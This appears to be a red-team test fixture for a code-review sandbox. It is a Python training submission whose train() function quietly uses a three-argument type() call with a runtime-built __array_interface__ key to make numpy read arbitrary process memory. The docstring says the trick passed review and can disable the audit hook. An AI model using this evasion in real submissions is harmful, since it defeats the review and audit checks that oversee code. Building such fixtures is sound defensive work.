"""`type()` with three arguments and a dunder key assembled at run time builds a class with
`__array_interface__`, which makes numpy view any address (found with `id()`): read and write
of the run's own memory, then the audit hook switched off. Found by a red team; it passed review.

Expected to be stopped by: the review (denied before it runs).
"""

import numpy as np

EXPECT = "review"
FINDING = "type() with three arguments builds a class"

U = "_" * 2


def peek(address, n):
    interface = {"data": (address, True), "shape": (n,), "typestr": "|u1", "version": 3}
    holder = type("H", (), {U + "array_interface" + U: interface})
    return np.asarray(holder())


def train(data, weights, config):
    raw = bytes(peek(hash(peek) * 16, 80))
    return {"weights": {k: np.array(v, dtype=np.float32) for k, v in weights.items()},
            "num_examples": len(data), "metrics": {"loss": float(len(raw))}}


def evaluate(data, weights, config):
    """A harmless evaluation, so the module is a complete submission."""
    return {"num_examples": len(data), "metrics": {"correct": 0, "loss_sum": 0.0}}
